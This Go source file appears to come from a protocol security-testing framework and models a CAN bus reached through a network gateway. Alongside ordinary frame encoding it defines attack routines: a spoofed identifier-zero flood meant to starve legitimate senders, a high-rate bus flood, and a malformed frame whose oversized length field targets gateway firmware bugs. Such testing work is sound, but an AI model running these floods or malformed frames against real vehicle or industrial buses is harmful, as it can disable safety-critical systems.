package protocol

import (
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"strconv"
	"time"

	"bytemomo/charybdis/internal/domain"
)

// CAN gateway frame flags, carried in the top bits of the identifier
// word the way SocketCAN encodes them.
const (
	canFlagEFF = 0x80000000
	canFlagRTR = 0x40000000
)

// canFrameLen is the fixed size of one gateway frame: identifier word,
// DLC, three pad bytes, eight data bytes.
const canFrameLen = 16

// CANMachine models a CAN bus reached through a TCP or UDP gateway that
// relays fixed 16-byte frames. There is no session handshake on the bus
// itself; bus-on simply means the gateway accepted our connection and a
// benign probe frame went out.
func CANMachine() *Definition {
	return &Definition{
		Protocol: domain.ProtocolCAN,
		Initial:  "offline",
		States:   []State{"offline", "bus-on"},
		Legal: []Transition{
			{From: "offline", Event: "connect", To: "bus-on"},
			{From: "bus-on", Event: "send-frame", To: "bus-on"},
			{From: "bus-on", Event: "disconnect", To: "offline"},
		},
		Events: map[string]EventSpec{
			"connect": {
				Name:   "connect",
				Encode: encodeCANTesterPresent,
				Expect: domain.RespAny,
			},
			"send-frame": {
				Name:   "send-frame",
				Encode: encodeCANFrame,
				Fields: []FieldSpec{
					{Name: "identifier", Offset: 0, Size: 4},
					{Name: "dlc", Offset: 4, Size: 1},
					{Name: "data", Offset: 8, Size: 8},
				},
				Expect: domain.RespAny,
			},
			"spoof-frame": {
				Name:   "spoof-frame",
				Encode: encodeCANSpoofFrame,
				Expect: domain.RespSilence,
			},
			"malformed-frame": {
				Name:   "malformed-frame",
				Encode: encodeCANMalformedFrame,
				Expect: domain.RespSilence,
			},
			"disconnect": {
				Name:   "disconnect",
				Encode: func(map[string]string) ([]byte, error) { return nil, nil },
				Expect: domain.RespAny,
			},
		},
		Abuses: []AbuseSpec{
			{
				Name:     "id-spoof-flood",
				Category: domain.AttackSpoof,
				From:     "bus-on",
				Events:   []string{"spoof-frame"},
				Params:   map[string]string{"id": "0x000"},
				Rate:     &domain.RateSpec{Count: 1024, Interval: time.Millisecond},
			},
			{
				Name:     "malformed-frame",
				Category: domain.AttackInjection,
				From:     "bus-on",
				Events:   []string{"malformed-frame"},
			},
			{
				Name:     "bus-flood",
				Category: domain.AttackFlood,
				From:     "bus-on",
				Events:   []string{"send-frame"},
				Params:   map[string]string{"id": "0x7FF", "data": "ffffffffffffffff"},
				Rate:     &domain.RateSpec{Count: 2048, Interval: 500 * time.Microsecond},
			},
		},
		Dictionary: [][]byte{
			canFrame(0x000, false, false, 0, nil),
			canFrame(0x1FFFFFFF, true, false, 8, []byte{0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}),
			canFrame(0x7DF, false, true, 0, nil),
			canFrame(0x7E0, false, false, 8, []byte{0x02, 0x10, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00}),
		},
	}
}

// canFrame encodes one gateway frame. The data slice is truncated or
// zero-padded to eight bytes; dlc is written as given even when it
// disagrees with the data length, which is exactly what the malformed
// frame abuse relies on.
func canFrame(id uint32, eff, rtr bool, dlc byte, data []byte) []byte {
	word := id
	if eff {
		word |= canFlagEFF
	} else {
		word &= 0x7FF
	}
	if rtr {
		word |= canFlagRTR
	}
	buf := bytes.NewBuffer(nil)
	binary.Write(buf, binary.BigEndian, word)
	buf.WriteByte(dlc)
	buf.Write([]byte{0x00, 0x00, 0x00})
	payload := make([]byte, 8)
	copy(payload, data)
	buf.Write(payload)
	return buf.Bytes()
}

func canID(params map[string]string, fallback string) (uint32, bool) {
	v, err := strconv.ParseUint(param(params, "id", fallback), 0, 32)
	if err != nil {
		return 0x7FF, false
	}
	return uint32(v &^ uint64(canFlagEFF|canFlagRTR)), v > 0x7FF
}

func canData(params map[string]string, fallback string) []byte {
	data, err := hex.DecodeString(param(params, "data", fallback))
	if err != nil {
		return nil
	}
	return data
}

// encodeCANTesterPresent sends the UDS tester-present service on the
// OBD functional address, the quietest way to see whether anything on
// the bus answers diagnostics.
func encodeCANTesterPresent(params map[string]string) ([]byte, error) {
	return canFrame(0x7DF, false, false, 8,
		[]byte{0x02, 0x3E, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00}), nil
}

func encodeCANFrame(params map[string]string) ([]byte, error) {
	id, extended := canID(params, "0x123")
	data := canData(params, "0011223344556677")
	if len(data) > 8 {
		data = data[:8]
	}
	return canFrame(id, extended, false, byte(len(data)), data), nil
}

// encodeCANSpoofFrame emits frames under an identifier the attacker does
// not own. Identifier zero wins every arbitration round, so a fast train
// starves all legitimate senders.
func encodeCANSpoofFrame(params map[string]string) ([]byte, error) {
	id, extended := canID(params, "0x000")
	return canFrame(id, extended, false, 8, canData(params, "dead00000000beef")), nil
}

// encodeCANMalformedFrame declares a DLC of 15 against eight data bytes.
// Conformant controllers clamp it; gateway firmwares that trust the
// field index out of bounds.
func encodeCANMalformedFrame(params map[string]string) ([]byte, error) {
	id, extended := canID(params, "0x7FF")
	return canFrame(id, extended, false, 15, canData(params, "4141414141414141")), nil
}
